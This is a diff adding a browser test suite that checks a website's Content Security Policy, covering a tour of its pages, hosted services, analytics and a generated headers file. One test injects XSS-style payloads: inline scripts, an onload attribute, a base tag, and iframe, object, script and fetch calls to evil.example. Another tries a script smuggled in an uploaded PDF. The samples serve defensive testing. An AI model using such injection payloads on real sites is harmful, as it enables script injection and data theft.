@@ -1,0 +1,193 @@
+import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import type { Page, Route } from 'playwright-core';
+import { hashSources, readStyleSheets } from '../../../src/build/styleSheets';
+import { embeddedAnonKey, readSiteEnvironment } from '../../../src/lib/environment/siteEnvironment';
+import { headersFile } from '../../../src/lib/security/headersFile';
+import { fileForm } from '../../support/backend';
+import { buildSite } from '../../support/buildSite';
+import { eventually } from '../../support/eventually';
+import { pdf } from '../../support/files';
+import { useSite } from '../../support/site';
+import { AT_ONCE } from '../../browser/anyScreen';
+import { TOUR } from './siteTour';
+
+const EVERYTHING = {
+  SANITY_PROJECT_ID: 'abcd1234',
+  SANITY_DATASET: 'production',
+  SUPABASE_URL: 'https://ref.supabase.co',
+  SUPABASE_ANON_KEY: 'sb_publishable_embedded',
+  SENTRY_DSN: 'https://key@o1.ingest.sentry.io/42',
+  GA_MEASUREMENT_ID: 'G-ABC1234567',
+};
+
+/** What Google's script does that a policy can forbid: it sends what it was told, and loads a pixel. */
+const GOOGLE_TAG = `
+  for (const [name, event] of window.dataLayer) {
+    if (name === 'event') navigator.sendBeacon('https://region1.google-analytics.com/g/collect?en=' + event);
+  }
+  new Image().src = 'https://www.googletagmanager.com/a?id=G-ABC1234567';
+`;
+
+/** What the policy has stopped since the page was opened, by directive and what was stopped. */
+async function followViolations(page: Page): Promise<() => Promise<string[]>> {
+  await page.addInitScript(() => {
+    const stopped: string[] = [];
+    Object.assign(window, { stopped });
+    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
+      stopped.push(`${effectiveDirective}: ${blockedURI}`),
+    );
+  });
+  return () => page.evaluate(() => (window as unknown as { stopped: string[] }).stopped);
+}
+
+describe('the policy stops nothing of the site', () => {
+  const site = useSite({ hasBackend: true });
+
+  test.each(TOUR)('$name', async ({ at, window, look }) => {
+    site.expectTrouble(/No page at \/nowhere/);
+    const page = await site.visit(window);
+    const violations = await followViolations(page);
+    await page.goto(at, AT_ONCE);
+    await look(page);
+    await page.waitForLoadState();
+    expect(await violations()).toEqual([]);
+  });
+
+  test('but whatever gets into a page neither runs nor reaches another host', async () => {
+    site.expectTrouble(/Content Security Policy|csp|ERR_BLOCKED_BY_CSP/);
+    const page = await site.visit();
+    const violations = await followViolations(page);
+    await page.goto('/faq');
+    await page.getByRole('navigation', { name: 'Table of Contents' }).waitFor();
+    await page.evaluate(async () => {
+      const html = `
+        <img src="/placeholder.svg" onload="window.ran = 'an attribute'">
+        <img src="https://evil.example/pixel">
+        <style>:root { display: none }</style>
+        <base href="https://evil.example/">
+        <object data="https://evil.example/object"></object>
+        <iframe src="https://evil.example/frame"></iframe>`;
+      document.body.append(document.createRange().createContextualFragment(html));
+      for (const script of [{ text: "window.ran = 'inline'" }, { src: 'https://evil.example/script.js' }]) {
+        document.body.append(Object.assign(document.createElement('script'), script));
+      }
+      await fetch('https://evil.example/call').catch(() => undefined);
+      await new Promise((resolve) => setTimeout(resolve, 500));
+    });
+    expect((await violations()).sort()).toEqual([
+      'base-uri: https://evil.example/',
+      'connect-src: https://evil.example/call',
+      'frame-src: https://evil.example',
+      'img-src: https://evil.example/pixel',
+      'object-src: https://evil.example',
+      'script-src-attr: inline',
+      'script-src-elem: https://evil.example/script.js',
+      'script-src-elem: inline',
+      'style-src-elem: inline',
+    ]);
+    expect(await page.evaluate(() => 'ran' in window)).toBe(false);
+  });
+
+  test("nor do answers and uploaded files that stand on the site's own origin", async () => {
+    site.expectTrouble(/MIME type/);
+    const uploaded = await fetch(`${site.origin()}/functions/v1/secure-file-upload`, {
+      method: 'POST',
+      headers: { apikey: embeddedAnonKey },
+      body: fileForm(pdf('*/window.ran = 1/*'), 'a.pdf'),
+    });
+    const { publicUrl } = (await uploaded.json()) as { publicUrl: string };
+    const page = await site.open('/faq');
+    const query = `/v2025-02-19/data/query/production?query=${encodeURIComponent('"window.ran = 1"')}`;
+    for (const address of [publicUrl, query]) {
+      const outcome = page.evaluate(
+        (src) =>
+          new Promise((resolve) => {
+            const script = Object.assign(document.createElement('script'), { src });
+            for (const name of ['load', 'error']) script.addEventListener(name, () => resolve(name));
+            document.body.append(script);
+          }),
+        address,
+      );
+      expect(await outcome).toBe('error');
+    }
+  });
+});
+
+/** Sends what an address of our own says, to pages from anywhere. */
+async function answerFrom(url: string, route: Route): Promise<void> {
+  const response = await route.fetch({ url });
+  const headers = { ...response.headers(), 'access-control-allow-origin': '*' };
+  await route.fulfill({ response, headers });
+}
+
+describe('the policy of a site with hosted services, Sentry and Google stops nothing either', () => {
+  const folder = mkdtempSync(join(tmpdir(), 'fairground-hosted-'));
+  beforeAll(() => buildSite(folder, EVERYTHING), 180_000);
+  afterAll(() => rmSync(folder, { recursive: true }));
+  const site = useSite({
+    hasBackend: true,
+    distDir: folder,
+    environment: readSiteEnvironment(EVERYTHING),
+  });
+  let foreign: string[];
+
+  /** Answers for the hosted services, with what the embedded ones say. */
+  async function host(page: Page) {
+    foreign = [];
+    await page.route(/^https:/, async (route) => {
+      const { hostname, pathname, search } = new URL(route.request().url());
+      foreign.push(hostname + pathname);
+      if (/\.(sanity\.io|supabase\.co)$/.test(hostname)) {
+        // Once the visit has ended, neither the answer nor what is left of it can be had.
+        return answerFrom(site.origin() + pathname + search, route).catch(() => undefined);
+      }
+      const body = pathname === '/gtag/js' ? GOOGLE_TAG : '{}';
+      return route.fulfill({
+        contentType: pathname === '/gtag/js' ? 'text/javascript' : 'application/json',
+        headers: { 'access-control-allow-origin': '*' },
+        body,
+      });
+    });
+  }
+
+  test.each(TOUR)('$name', async ({ at, window, look }) => {
+    site.expectTrouble(/No page at \/nowhere/);
+    const page = await site.visit(window);
+    await host(page);
+    const violations = await followViolations(page);
+    await page.goto(at, AT_ONCE);
+    await look(page);
+    await page.waitForLoadState();
+    expect(await violations()).toEqual([]);
+    expect(foreign).toContain('abcd1234.apicdn.sanity.io/v2025-02-19/data/query/production');
+  });
+
+  test('what they send arrives', async () => {
+    site.expectTrouble(/thrown: Error: A failure to tell/);
+    const page = await site.visit();
+    await host(page);
+    const violations = await followViolations(page);
+    await page.goto('/faq');
+    await page.evaluate(() => setTimeout(() => Promise.reject(new Error('A failure to tell'))));
+    await eventually(() =>
+      expect(foreign).toEqual(
+        expect.arrayContaining([
+          'www.googletagmanager.com/gtag/js',
+          'region1.google-analytics.com/g/collect',
+          'www.googletagmanager.com/a',
+          'o1.ingest.sentry.io/api/42/envelope/',
+        ]),
+      ),
+    );
+    expect(await violations()).toEqual([]);
+  });
+
+  test('and the build tells the same policy to static hosts', () => {
+    const pageStyles = hashSources(Object.values(readStyleSheets(folder)));
+    expect(readFileSync(join(folder, '_headers'), 'utf8')).toBe(
+      headersFile(readSiteEnvironment(EVERYTHING), pageStyles),
+    );
+  });
+});
